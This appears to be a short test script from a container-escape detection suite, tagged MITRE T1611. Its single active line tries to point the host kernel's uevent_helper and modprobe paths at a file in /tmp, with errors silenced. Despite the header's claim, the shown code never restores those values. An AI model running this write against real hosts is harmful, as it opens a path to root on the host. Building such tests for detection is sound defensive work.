#!/bin/sh
# case: T1611-uevent-helper-attempt
# technique: A program for the kernel to start: the helpers of uevents and modules
# source: MITRE ATT&CK T1611; HackTricks uevent_helper
# needs: sh
# expect: escape kernel file
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
(echo /tmp/ho-helper > /sys/kernel/uevent_helper) 2>/dev/null; (echo /tmp/ho-helper > /proc/sys/kernel/modprobe) 2>/dev/null; true
exit 0
